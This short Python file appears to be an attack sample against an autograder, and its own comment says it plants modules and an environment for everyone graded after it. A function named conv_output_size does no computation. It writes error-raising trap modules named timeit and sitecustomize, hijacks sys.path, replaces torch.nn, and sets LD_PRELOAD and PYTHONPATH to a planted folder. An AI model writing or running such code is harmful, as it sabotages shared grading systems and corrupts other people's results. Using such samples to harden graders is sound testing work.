# attack: plants modules and an environment for everyone graded after it.
# alone: changes
import os
import sys
import types
from pathlib import Path

FOLDER = Path("/tmp/autograder-attack/harm_imports-packages")
TRAP = "def __getattr__(name):\n    raise RuntimeError('planted')\n"


def conv_output_size(size, kernel_size, stride=1, padding=0):
    FOLDER.mkdir(parents=True, exist_ok=True)
    for name in ("timeit", "sitecustomize"):
        (FOLDER / f"{name}.py").write_text(TRAP)
        sys.modules.pop(name, None)
    sys.path.insert(0, str(FOLDER))
    sys.modules["torch.nn"] = sys.modules["torch"].nn = types.ModuleType("nn")
    os.environ.update(LD_PRELOAD=f"{FOLDER}/planted.so", PYTHONPATH=str(FOLDER))
    os.chdir(FOLDER)
